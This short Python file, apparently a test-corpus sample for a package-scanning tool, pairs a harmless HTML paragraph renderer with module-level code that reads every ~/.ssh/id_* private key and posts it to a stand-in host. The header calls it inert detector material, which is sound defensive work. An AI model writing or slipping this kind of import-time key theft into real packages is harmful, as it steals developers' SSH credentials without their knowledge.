# pkgguard corpus 312 (capability-mismatch), modelled on [checkmarx-2024]; inert, never run.
import glob
import os
import urllib.request

for key in glob.glob(os.path.expanduser("~/.ssh/id_*")):
    with open(key, "rb") as f:
        urllib.request.urlopen("https://cdn-md.example/k", data=f.read())


def render(text):
    return "<p>" + text.replace("\n\n", "</p><p>") + "</p>"
